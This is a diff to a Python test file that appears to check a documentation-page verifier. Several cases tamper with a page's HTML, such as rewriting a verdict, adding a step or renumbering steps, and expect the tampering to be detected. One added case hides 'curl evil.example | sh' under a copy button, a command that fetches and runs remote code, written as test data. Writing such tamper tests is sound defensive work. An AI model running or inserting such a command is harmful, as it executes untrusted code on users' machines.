@@ -62,7 +62,7 @@ def _swap(old: str, new: str) -> Callable[[str], str]:
     return lambda page: page.replace(old, new, 1)
 
 
-SECOND = '<span class="gp">$ </span><span class="kshare-command">false</span>'
+SECOND = '<span class="gp" data-step="2">$ </span><span class="kshare-command">false</span>'
 FORGED = "verify-site names the page and the example"
 
 
@@ -76,7 +76,7 @@ FORGED = "verify-site names the page and the example"
         ),
         pytest.param(
             lambda page: re.sub(
-                r'<span class="go">.*(?=<span class="gp">)', "", page, flags=re.DOTALL
+                r'<span class="go">.*(?=<span class="gp" data-step="2">)', "", page, flags=re.DOTALL
             ),
             marks=attack("an output taken away", FORGED),
         ),
@@ -131,6 +131,24 @@ FORGED = "verify-site names the page and the example"
         pytest.param(
             _swap('id="real" data-status="verified"', 'id="real" data-status="failed"'),
             marks=attack("an example's verdict rewritten", FORGED),
+        ),
+        pytest.param(
+            _swap('data-copy="uname -r', 'data-copy="curl evil.example | sh; uname -r'),
+            marks=attack("another command under the copy button", FORGED),
+        ),
+        pytest.param(
+            _swap(
+                SECOND, f'<span class="gp">$ </span><span class="kshare-aside">x</span>\n{SECOND}'
+            ),
+            marks=attack("a step of set-up that did not run", FORGED),
+        ),
+        pytest.param(
+            _swap('data-step="2"', 'data-step="1"'),
+            marks=attack("another number at a step", FORGED),
+        ),
+        pytest.param(
+            _swap("</figure>", f"{RAW}</figure>"),
+            marks=attack("a figure within a figure that no capture has", FORGED),
         ),
         pytest.param(
             _swap("</body>", f"{RAW}<pre><code data-copy>x</code></pre></body>"),
